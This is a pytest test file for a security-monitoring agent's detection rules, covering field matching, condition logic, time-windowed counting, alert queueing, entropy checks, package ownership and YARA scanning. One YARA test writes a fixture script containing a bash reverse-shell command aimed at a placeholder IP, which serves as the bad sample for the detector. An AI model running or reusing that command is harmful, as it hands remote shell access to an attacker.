"""Rules by themselves: what matches, what is counted, what is refused; and alerts that wait."""

import json
import time
from pathlib import Path
from typing import Any

import pytest

from soc_agent.detect import content
from soc_agent.detect.detector import SHIPPED, settings_of
from soc_agent.detect.packaged import Packages
from soc_agent.detect.places import Places
from soc_agent.detect.programs import Programs
from soc_agent.detect.rules import BadRule, Rule, load_rules, read_rule
from soc_agent.detect.waiting import Waiting


def rule(condition: str = "one", timeframe: float = 0, count: int = 1, by: Any = (), distinct: str = "",
         **selections: Any) -> Rule:  # fmt: skip
    return read_rule({
        "id": "x", "title": "X", "severity": "low", "category": "Malware", "kind": "process",
        "detection": {**(selections or {"one": {"process.name": "sh"}}), "condition": condition},
        "timeframe": timeframe, "count": count, "by": list(by), "distinct": distinct,
    })  # fmt: skip


def event(**process: Any) -> dict[str, Any]:
    return {"kind": "process", "process": process}


@pytest.mark.parametrize(("name", "wanted", "value", "expected"), [
    ("process.name", "sh", "sh", True), ("process.name", "sh", "Sh", False), ("process.name", ["a", "sh"], "sh", True),
    ("process.path|startswith", "/tmp/", "/tmp/x", True), ("process.path|startswith", "/tmp/", "/var/tmp/x", False),
    ("process.path|endswith", [".sh", ".py"], "a.py", True), ("process.line|contains|all", ["a", "b"], "xaxb", True),
    ("process.line|contains|all", ["a", "b"], "xa", False), ("process.line|contains", "a", ["a", "b"], True),
    ("process.line|re", "^a+$", "aaa", True), ("process.line|re", "^a+$", 7, False),
    ("process.size|gte", 5, 5, True), ("process.size|lte", 5, 6, False), ("process.size|gte", 1, True, False),
    ("process.size|gte", 5, "9", False), ("process.nothing.deeper", "x", None, False),
])  # fmt: skip
def test_a_field_matches(name: str, wanted: Any, value: Any, expected: bool) -> None:
    key = name.partition("|")[0].removeprefix("process.")
    assert rule(one={name: wanted}).fires(event(**{key.partition(".")[0]: value}), 0) is expected


@pytest.mark.parametrize(("condition", "expected"), [
    ("yes", True), ("no", False), ("not no", True), ("yes and no", False), ("yes or no", True),
    ("not (yes and no)", True), ("no or yes and not no", True), ("(no or yes) and no", False), ("not not yes", True),
])  # fmt: skip
def test_a_condition_holds(condition: str, expected: bool) -> None:
    found = rule(condition, yes={"process.name": "sh"}, no={"process.name": "ls"})
    assert found.fires(event(name="sh"), 0) is expected


@pytest.mark.parametrize("condition", ["", "and", "yes and", "(yes", "yes)", "yes no", "other", "yes & yes", "1 of x"])
def test_a_condition_that_means_nothing_is_refused(condition: str) -> None:
    with pytest.raises(BadRule):
        rule(condition, yes={"process.name": "sh"})


@pytest.mark.parametrize("change", [
    {"severity": "terrible"}, {"kind": "dream"}, {"title": ""}, {"detection": {}}, {"count": 0}, {"count": 10**9},
    {"timeframe": "long"}, {"detection": {"one": {}, "condition": "one"}},
    {"detection": {"one": {"a|near": 1}, "condition": "one"}},
    {"detection": {"one": {"a|re": "("}, "condition": "one"}},
])  # fmt: skip
def test_a_rule_that_cannot_be_used_is_refused(change: dict[str, Any]) -> None:
    whole = {"id": "x", "title": "X", "severity": "low", "category": "Malware", "kind": "process",
             "detection": {"one": {"a": 1}, "condition": "one"}}  # fmt: skip
    assert read_rule(whole).id == "x"
    with pytest.raises(BadRule):
        read_rule({**whole, **change})


def test_what_is_counted_fires_within_its_time_alone() -> None:
    found = rule(timeframe=10, count=3, by=["process.user"])
    told = [found.fires(event(name="sh", user="ada"), at) for at in (0, 5, 20, 22, 24)]
    assert told == [False, False, False, False, True]


def test_others_are_counted_apart_and_equal_ones_once() -> None:
    found = rule(timeframe=10, count=2, by=["process.user"], distinct="process.path")
    assert not found.fires(event(name="sh", user="ada", path="/a"), 0)
    assert not found.fires(event(name="sh", user="eve", path="/b"), 0)
    assert not found.fires(event(name="sh", user="ada", path="/a"), 0)
    assert found.fires(event(name="sh", user="ada", path="/b"), 0)


def test_counting_keeps_no_more_groups_than_it_may() -> None:
    found = rule(timeframe=10, count=2, by=["process.user"])
    for number in range(3000):
        found.fires(event(name="sh", user=str(number)), 0)
    assert len(found._seen) <= 500


def test_the_shipped_rules_are_whole_and_a_host_may_replace_them(tmp_path: Path) -> None:
    rules, wrong = load_rules([SHIPPED])
    assert wrong == []
    assert len({one.id for one in rules}) == len(rules) >= 11
    assert all(one.attack for one in rules)
    mine = {"id": rules[0].id, "title": "Mine", "severity": "low", "category": "Malware", "kind": "file",
            "detection": {"one": {"action": "created"}, "condition": "one"}}  # fmt: skip
    (tmp_path / "mine.json").write_text(json.dumps(mine))
    (tmp_path / "broken.json").write_text("{")
    rules, wrong = load_rules([SHIPPED, tmp_path])
    assert [one.title for one in rules if one.id == mine["id"]] == ["Mine"]
    assert wrong[0].startswith("broken.json")


def test_further_folders_come_from_the_hosts_settings(tmp_path: Path) -> None:
    file = tmp_path / "detector.json"
    assert settings_of(file) == ()
    file.write_text('{"watch": ["/srv/share", "relative"]}')
    assert settings_of(file) == ("/srv/share",)
    file.write_text("[1]")
    assert settings_of(file) == ()


def test_alerts_wait_in_order_and_the_oldest_make_room(tmp_path: Path) -> None:
    waiting = Waiting(tmp_path / "journal.sqlite", most=3)
    for number in range(5):
        waiting.keep({"id": str(number)})
    assert [one["id"] for one in waiting.first()] == ["2", "3", "4"]
    assert waiting.dropped == 2
    waiting.taken(["2", "unknown"])
    waiting.close()
    again = Waiting(tmp_path / "journal.sqlite", most=3)
    assert [one["id"] for one in again.first()] == ["3", "4"]
    again.close()


def test_noise_is_told_from_text_and_from_packed_files(tmp_path: Path) -> None:
    def of(data: bytes) -> content.Content:
        (tmp_path / "x").write_bytes(data)
        return content.look(str(tmp_path / "x")) or pytest.fail("it is there")

    noise = bytes((number * 197 + number // 256 * 31) % 256 for number in range(4096))
    assert of(noise).entropy > 7.9
    assert of(b"Dear Sir or Madam, " * 200).entropy < 5
    assert of(b"\x1f\x8b" + noise).packed
    assert not of(noise).packed
    assert of(b"short").entropy == 0
    assert content.look(str(tmp_path)) is None


class _Nobody:
    known: dict[int, Any] = {}
    ended: list[Any] = []


def test_files_of_packages_are_known_as_such_also_through_links(tmp_path: Path) -> None:
    info = tmp_path / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "tool.list").write_text("/lib/systemd/system/tool.service\n")
    (info / "tool.conffiles").write_text("/etc/cron.d/tool\n")
    wants = tmp_path / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    link = wants / "tool.service"
    link.symlink_to(tmp_path / "usr/lib/systemd/system/tool.service")
    packages = Packages(_Nobody(), tmp_path)  # type: ignore[arg-type]
    assert packages.owns(str(link))
    assert packages.configured(str(tmp_path / "etc/cron.d/tool"))
    assert not packages.owns(str(tmp_path / "etc/cron.d/other"))
    assert not packages.busy(time.time())


def test_yara_rules_find_a_script_that_gives_a_shell_away(tmp_path: Path) -> None:
    pytest.importorskip("yara", reason="yara is not installed")
    programs = Programs((SHIPPED,))
    assert programs.missing == ""
    (tmp_path / "bad").write_text("#!/bin/bash\nbash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1\n")
    (tmp_path / "good").write_text("#!/bin/bash\necho hello\n")
    assert [one["id"] for one in programs.match(str(tmp_path / "bad"))] == ["yara.reverse_shell_script"]
    assert programs.match(str(tmp_path / "good")) == []


def test_without_yara_it_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    def gone(name: str) -> Any:
        raise ImportError(name)

    monkeypatch.setattr("importlib.import_module", gone)
    programs = Programs((SHIPPED,))
    assert "not installed" in programs.missing
    assert programs.match("/bin/sh") == []


def test_places_name_what_a_file_would_be_started_by(tmp_path: Path) -> None:
    places = Places(tmp_path, homes=(str(tmp_path / "home/ada"),))
    found = {name: places.kind(str(tmp_path / name)) for name in (
        "etc/cron.d/x", "var/spool/cron/crontabs/root", "etc/systemd/system/a.wants/x.service", "etc/passwd",
        "home/ada/.bashrc", "home/ada/.bashrc.swp", "etc/cron.d/.placeholder.dpkg-new", "home/ada/letter",
    )}  # fmt: skip
    assert list(found.values()) == ["cron", "cron", "systemd", "", "rc", "", "", ""]
